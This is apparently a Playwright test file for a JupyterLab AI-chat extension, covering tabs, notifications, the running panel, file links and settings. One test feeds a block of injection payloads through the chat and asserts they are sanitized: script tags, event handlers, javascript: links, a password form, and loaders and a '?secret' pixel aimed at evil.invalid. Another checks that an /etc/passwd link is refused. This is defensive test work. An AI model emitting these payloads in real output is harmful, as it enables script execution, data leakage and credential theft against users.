"""What is JupyterLab's own: palette, tabs, badge, notifications, running panel, files, settings."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Locator, expect

from hermes_jupyter.offline.tour import QUESTION
from tests.servers import Server

from .conftest import Lab


@pytest.fixture(scope="module")
def opened(chromium: Browser, tour: Server) -> Iterator[Lab]:
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    lab = Lab(context.new_page(), tour).open("lab/tree/tour.ipynb")
    lab.notebook_ready()
    yield lab
    context.close()
    assert lab.faults == []


@pytest.fixture
def lab(opened: Lab) -> Lab:
    """The one page of these tests, whose sidebar shows a new chat."""
    opened.show_panel()
    opened.new_chat()
    return opened


class Tab(Lab):
    """The chat in a tab of a page's main area."""

    def __init__(self, lab: Lab) -> None:
        super().__init__(lab.page, lab.server)
        self.panel = lab.page.locator("#jp-main-dock-panel .hj-panel")


def other_page(lab: Lab) -> Lab:
    """Another page of the same browser, with a workspace of its own."""
    return Lab(lab.page.context.new_page(), lab.server).open("lab/workspaces/other")


def side_tab(lab: Lab) -> Locator:
    return lab.page.locator('.lm-TabBar-tab[data-id="hermes-jupyter-sidebar"]')


def status_bar(lab: Lab) -> Locator:
    return lab.page.locator("#jp-main-statusbar")


def toasts(lab: Lab) -> Locator:
    return lab.page.locator(".Toastify__toast")


def have_said(lab: Lab, text: str) -> Locator:
    """Have the offline model answer with this text, and return the answer."""
    lab.say("Please answer.\nSCRIPT: " + json.dumps({"text": text}))
    answer = lab.log.get_by_role("article", name="Hermes")
    expect(answer).to_be_visible(timeout=30_000)
    lab.until_idle()
    return answer


def wait_until_saved(server: Server, text: str) -> None:
    """Wait until JupyterLab has stored its layout, which it does when it finds the time."""
    headers = {"Authorization": f"token {server.token}"}
    end = time.monotonic() + 20
    while text not in httpx.get(f"{server.url}lab/api/workspaces", headers=headers).text:
        assert time.monotonic() < end, text
        time.sleep(0.1)


def test_a_tab_has_its_own_conversation_and_comes_back_with_it(lab: Lab) -> None:
    """R45"""
    at_side = have_said(lab, "I am at the **side**.")
    lab.command("apputils:activate-command-palette")
    lab.page.locator("#modal-command-palette input").fill("new hermes chat")
    lab.page.keyboard.press("Enter")
    tab = Tab(lab)
    expect(tab.composer).to_be_focused()
    in_tab = have_said(tab, "I am in the **tab**.")
    expect(in_tab).to_have_text("I am in the tab.")
    expect(at_side).to_have_text("I am at the side.")
    with lab.server.client() as client:
        wait_until_saved(lab.server, client.get("sessions").json()["sessions"][0]["id"])

    lab.reload()
    expect(in_tab).to_have_text("I am in the tab.")
    expect(at_side).to_have_text("I am at the side.")
    lab.picture("10-tab")
    lab.command("application:close")
    expect(tab.panel).to_have_count(0)


def test_a_question_elsewhere_is_told_once_and_leads_to_it(lab: Lab) -> None:
    """R11, R12, N2"""
    other = other_page(lab)
    other.new_chat()
    lab.say("ask me something")
    expect(lab.panel.get_by_role("region", name="Question from Hermes")).to_be_visible()
    expect(toasts(other)).to_contain_text(f"Hermes asks: {QUESTION}")
    expect(toasts(other)).to_have_count(1)
    expect(toasts(lab)).to_have_count(0)
    expect(side_tab(other)).to_have_attribute("title", "Hermes \N{EN DASH} 1 open question")
    expect(status_bar(other)).to_contain_text("1 needs you")
    other.picture("11-elsewhere")

    toasts(other).get_by_role("button", name="Show").click()
    card = other.panel.get_by_role("region", name="Question from Hermes")
    expect(card).to_be_visible()
    expect(toasts(other)).to_have_count(0)
    other.page.keyboard.press("Tab")
    expect(card.get_by_role("button", name="Exploring the data")).to_be_focused()

    other.new_chat()
    expect(card).to_have_count(0)
    status_bar(other).get_by_role("button", name="1 needs you").click()
    expect(card).to_be_visible()
    # It has been told: now it waits in the list of notifications alone.
    expect(toasts(other)).to_have_count(0)
    other.new_chat()
    lab.panel.get_by_role("button", name="Telling the story").click()
    expect(side_tab(other)).to_have_attribute("title", "Hermes")
    expect(status_bar(other)).not_to_contain_text("needs you")
    lab.until_idle()
    assert other.faults == []


def test_the_running_panel_opens_and_stops_what_the_agent_works_on(lab: Lab) -> None:
    lab.say("tell me a long story")
    expect(lab.log).to_contain_text("long corridor", timeout=30_000)
    lab.new_chat()
    lab.command("running:show-panel")
    running = lab.page.locator("#jp-running-sessions")
    item = running.get_by_role("treeitem").filter(has_text="tell me a long story")
    item.get_by_text("tell me a long story").click()
    expect(lab.log).to_contain_text("long corridor")
    lab.picture("12-running")
    item.hover()
    item.locator('[title="Stop"]').click()
    lab.until_idle()
    expect(lab.log).to_contain_text("Stopped here")
    expect(item).to_have_count(0)


def test_a_file_in_an_answer_opens_at_its_line(lab: Lab) -> None:
    with lab.server.client() as client:
        folder = Path(client.get("status").json()["cwd"])
    (folder / "notes").mkdir(exist_ok=True)
    (folder / "notes" / "todo.py").write_text("one = 1\ntwo = 2\nthree = 3\n")
    text = "See `notes/todo.py:3`, `lost.py`, [it](/etc/passwd) and `df.head`."
    links = have_said(lab, text).get_by_role("link")
    expect(links).to_have_text(["notes/todo.py:3", "lost.py", "it"])

    lab.log.get_by_role("link", name="lost.py").click()
    expect(toasts(lab).filter(has_text="There is no file lost.py")).to_be_visible()
    lab.log.get_by_role("link", name="it", exact=True).click()
    outside = "/etc/passwd is outside of the folder of Jupyter"
    expect(toasts(lab).filter(has_text=outside)).to_be_visible()
    lab.log.get_by_role("link", name="todo.py").click()
    expect(lab.page.locator(".jp-FileEditor")).to_be_visible()
    lab.page.wait_for_function(
        "() => jupyterapp.shell.currentWidget.content.editor?.getCursorPosition().line === 2"
    )
    lab.command("application:close")


#: What an agent may have read somewhere, and now says.
HOSTILE = """
<script>window.hit = 'script'</script>

<img src="//evil.invalid/x" onerror="window.hit = 'onerror'">

<img src="http://evil.invalid/pixel.png?secret">

<video src="http://evil.invalid/a.mp4"></video>

<video><source src="http://evil.invalid/b.mp4"></video>

![pixel](http://evil.invalid/markdown.png)

<svg onload="window.hit = 'svg'"><image href="http://evil.invalid/c.png"/></svg>

<a href="javascript:window.hit='href'" onclick="window.hit='onclick'">one</a>

[two](javascript:window.hit='markdown')

[three](data:text/html,<script>window.hit='data'</script>)

<a href="vbscript:x">four</a>

<iframe src="http://evil.invalid/frame"></iframe>

<object data="http://evil.invalid/o"></object><embed src="http://evil.invalid/e">

<style>body { display: none; background: url(http://evil.invalid/style) }</style>

<link rel="stylesheet" href="http://evil.invalid/link.css">

<base href="http://evil.invalid/"><meta http-equiv="refresh" content="0;url=http://evil.invalid/m">

<p style="position: fixed; inset: 0; background: url(http://evil.invalid/inline)">over all</p>

<form action="http://evil.invalid/form"><input name="password"><button>Send</button></form>

<button data-commandlinker-command="docmanager:open" data-commandlinker-args="{}">run</button>

<button class="hj-file" data-place="tour.ipynb">open</button>

<details ontoggle="window.hit='toggle'" open><summary>more</summary></details>
"""

#: Elements and attributes that act, load by themselves or draw over the page.
ACTIVE = (
    "script, iframe, object, embed, style, link, base, meta, form, input, button, source, svg, "
    "video, audio, [style], [data-commandlinker-command], [onerror], [onload], [onclick], "
    '[ontoggle], img:not([src^="data:"]), a[href^="javascript:"], a[href^="data:"], '
    'a[href^="vbscript:"]'
)


def test_hostile_markdown_neither_runs_nor_loads_nor_draws(lab: Lab) -> None:
    requests: list[str] = []
    lab.page.on("request", lambda request: requests.append(request.url))
    lab.say("SCRIPT: " + json.dumps([{"text": HOSTILE}]))
    answer = lab.log.locator(".hj-assistant .hj-markdown").last
    expect(answer).to_contain_text("over all", timeout=60_000)
    lab.until_idle()
    found = "(node, active) => [...node.querySelectorAll(active)].map(one => one.outerHTML)"
    assert answer.evaluate(found, ACTIVE) == []
    for link in answer.locator("a[href]").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in str(link.get_attribute("rel"))
        assert link.get_attribute("referrerpolicy") == "no-referrer"
    lab.page.wait_for_timeout(200)
    assert lab.page.evaluate("window.hit") is None
    assert [url for url in requests if "evil" in url] == []


def test_settings_apply_at_once(lab: Lab) -> None:
    lab.command("settingeditor:open", query="Hermes")
    send_with = lab.page.locator('select[id$="sendWith"]')
    send_with.select_option("Ctrl+Enter")
    expect(lab.panel.get_by_role("button", name="Send")).to_have_attribute(
        "title", "Send (Ctrl+Enter)"
    )
    lab.composer.fill("hello")
    lab.composer.press("Enter")
    expect(lab.composer).to_have_value("hello\n")
    lab.picture("13-settings")
    send_with.select_option("Enter")
    expect(lab.panel.get_by_role("button", name="Send")).to_have_attribute("title", "Send (Enter)")
    lab.composer.press("Enter")
    expect(lab.log).to_contain_text("I am the offline model")
    lab.until_idle()
